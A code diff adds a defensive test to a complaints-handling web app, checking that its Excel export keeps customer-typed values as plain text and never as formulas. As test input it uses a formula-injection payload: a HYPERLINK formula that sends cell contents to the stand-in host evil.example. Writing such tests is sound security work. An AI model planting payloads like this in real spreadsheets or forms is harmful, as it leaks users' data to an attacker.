@@ -149,6 +149,17 @@ def test_personal_data_is_masked_on_pages_lists_and_exports_for_the_office(users
     assert ('name="customer_phone"' in form) is not masked
 
 
+def test_the_export_writes_what_customers_typed_as_text_never_as_a_formula(users, client_for, intake):
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    intake(branch="nanjing", customer_name=name, policy_number="-2+3", summary="@SUM(1+1)\x07")
+    content = client_for(users["nanjing_staff"]).get(reverse("complaints:case-list") + "?format=xlsx").content
+    row = load_workbook(io.BytesIO(content)).active[2]
+    assert (row[5].value, row[5].data_type) == (name, "s")
+    assert (row[8].value, row[8].data_type) == ("-2+3", "s")
+    assert (row[15].value, row[15].data_type) == ("@SUM(1+1)", "s")  # and the bell character a workbook cannot hold is gone
+    assert row[5].quotePrefix and row[8].quotePrefix
+
+
 def test_the_list_highlights_overdue_and_due_soon_and_filters(users, client_for, intake, take):
     overdue = intake(received="2023-03-01")
     done = take(intake(received="2023-03-01"), "notified")
